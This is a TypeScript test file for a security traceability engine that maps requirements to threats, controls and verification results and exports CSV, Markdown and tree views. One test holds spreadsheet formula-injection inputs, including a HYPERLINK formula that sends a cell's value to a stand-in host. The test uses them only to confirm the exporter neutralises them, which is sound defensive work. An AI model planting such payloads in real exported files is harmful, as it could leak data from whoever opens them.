import { strict as assert } from 'node:assert';
import { traceabilityCsv, traceabilityMarkdown, traceabilityRows, traceabilityTree, WorkspaceIndex, type TraceRow } from '../../../server/src/engine';
import { parse } from '../../support/fixtures';

function indexOf(files: Record<string, string>): WorkspaceIndex {
  const index = new WorkspaceIndex();
  for (const [name, text] of Object.entries(files)) index.update(parse(text, name));
  return index;
}

const files = {
  'req.yaml': [
    'kind: security-requirements',
    'requirements:',
    '  - id: SR-1',
    '    phase: installation',
    '    text: Verify the package signature.',
    '    threats: [TH-1, TH-2]',
    '    verification: [VT-1, VT-2]',
    '  - id: SR-2',
    '    phase: operation',
    '    text: Log every login.',
    '',
  ].join('\n'),
  'tm.yaml': 'kind: threat-model\nthreats:\n  - id: TH-1\n    title: Tampered update\n  - id: TH-2\n    title: Spoofed server\n',
  'arch.md': [
    '---',
    'kind: security-architecture',
    '---',
    '| ID | Title | Mitigates |',
    '|----|-------|-----------|',
    '| CTL-SIGN | Signed packages | TH-1 |',
    '| CTL-HASH | Hash check, then install | TH-1 |',
    '',
  ].join('\n'),
};

describe('traceability', () => {
  it('has one row per requirement × threat × mitigating control, keeping requirements without threats and threats without controls', () => {
    const rows = traceabilityRows(indexOf(files));
    const brief = rows.map((row) => [row.requirement, row.threat, row.control, row.verification].join(' '));
    assert.deepEqual(brief, ['SR-1 TH-1 CTL-SIGN VT-1; VT-2', 'SR-1 TH-1 CTL-HASH VT-1; VT-2', 'SR-1 TH-2  VT-1; VT-2', 'SR-2   ']);
    assert.deepEqual(rows[1], {
      requirement: 'SR-1',
      requirementText: 'Verify the package signature.',
      phase: 'installation',
      threat: 'TH-1',
      threatTitle: 'Tampered update',
      control: 'CTL-HASH',
      controlTitle: 'Hash check, then install',
      verification: 'VT-1; VT-2',
      result: 'no result',
    });
  });

  it('writes RFC 4180 CSV: header row, CRLF, quoted fields with commas, quotes and line breaks', () => {
    const row: TraceRow = { requirement: 'SR-1', requirementText: 'Say "no", then stop\nnow', phase: 'operation', threat: '', threatTitle: '', control: 'C', controlTitle: 'a,b', verification: '', result: 'no result' };
    assert.equal(
      traceabilityCsv([row]),
      'Requirement,Requirement text,Phase,Threat,Threat title,Control,Control title,Verification,Result\r\n' + 'SR-1,"Say ""no"", then stop\nnow",operation,,,C,"a,b",,no result\r\n',
    );
  });

  it('neutralises cells a spreadsheet would run as a formula (=, +, -, @, tab, CR first) with a leading quote', () => {
    const row: TraceRow = { requirement: '=HYPERLINK("http://x.example/?"&A1,"open")', requirementText: '+1+cmd', phase: '-2', threat: '@SUM(A1)', threatTitle: '\t=1', controlTitle: '\r=1', control: 'CTL-1', verification: 'a=b', result: 'pass' };
    const [, line] = traceabilityCsv([row]).split('\r\n');
    assert.equal(line, `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'+1+cmd,'-2,'@SUM(A1),'\t=1,CTL-1,"'\r=1",a=b,pass`);
  });

  it('writes a Markdown table with pipes escaped', () => {
    const [row] = traceabilityRows(indexOf({ 'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    text: "A | B"\n' }));
    const lines = traceabilityMarkdown([row]).trimEnd().split('\n');
    assert.equal(lines[0], '| Requirement | Requirement text | Phase | Threat | Threat title | Control | Control title | Verification | Result |');
    assert.equal(lines[1], '|---|---|---|---|---|---|---|---|---|');
    assert.equal(lines[2], '| SR-1 | A \\| B |  |  |  |  |  |  | no result |');
  });

  it('builds the tree threat → controls → requirements → verification ids, with locations', () => {
    const tree = traceabilityTree(indexOf(files));
    const shape = (nodes: typeof tree): unknown => nodes.map((node) => [node.kind, node.id, shape(node.children)]);
    assert.deepEqual(shape(tree), [
      ['threat', 'TH-1', [
        ['control', 'CTL-SIGN', [['requirement', 'SR-1', [['verification', 'VT-1', []], ['verification', 'VT-2', []]]]]],
        ['control', 'CTL-HASH', [['requirement', 'SR-1', [['verification', 'VT-1', []], ['verification', 'VT-2', []]]]]],
      ]],
      ['threat', 'TH-2', [['requirement', 'SR-1', [['verification', 'VT-1', []], ['verification', 'VT-2', []]]]]],
    ]);
    assert.equal(tree[0].label, 'TH-1 — Tampered update');
    assert.deepEqual(tree[0].location, { uri: 'file:///ws/tm.yaml', range: { start: { line: 2, character: 8 }, end: { line: 2, character: 12 } } });
    assert.equal(tree[0].children[0].location!.uri, 'file:///ws/arch.md');
    assert.equal(tree[0].children[0].children[0].children[0].location, undefined, 'verification ids have no location');
  });

  it('says pass, fail or no result per requirement from the JUnit results, in the rows and the tree', () => {
    const index = indexOf({
      'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    threats: [TH-1]\n    verification: [VT-1]\n  - id: SR-2\n    verification: [VT-2]\n  - id: SR-3\n    verification: [VT-3]\n',
      'tm.yaml': 'kind: threat-model\nthreats:\n  - id: TH-1\n',
      'junit.xml': '<testsuite><testcase name="VT-1 ok"/><testcase name="VT-2 bad"><failure message="no"/></testcase></testsuite>',
    });
    assert.deepEqual(traceabilityRows(index).map((row) => [row.requirement, row.result]), [['SR-1', 'pass'], ['SR-2', 'fail'], ['SR-3', 'no result']]);
    const [threat] = traceabilityTree(index);
    assert.equal(threat.children[0].label, 'SR-1 [pass]');
    assert.equal(threat.children[0].children[0].label, 'VT-1 — pass');
  });

  it('marks the gaps of the tree: a threat no control mitigates or no requirement names, a requirement with no verification', () => {
    const tree = traceabilityTree(
      indexOf({
        'tm.yaml': 'kind: threat-model\nthreats:\n  - id: TH-1\n    title: Covered\n  - id: TH-2\n    title: Orphan\n',
        'arch.yaml': 'kind: security-architecture\ncontrols:\n  - id: CTL-1\n    mitigates: [TH-1]\n',
        'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    threats: [TH-1]\n',
      }),
    );
    const th1 = tree.find((node) => node.id === 'TH-1')!;
    const th2 = tree.find((node) => node.id === 'TH-2')!;
    assert.deepEqual(th1.gaps, []);
    assert.deepEqual(th2.gaps, ['no control mitigates it', 'no requirement names it']);
    assert.deepEqual(th1.children[0].children[0].gaps, ['names no verification'], 'SR-1 under CTL-1');
  });
});
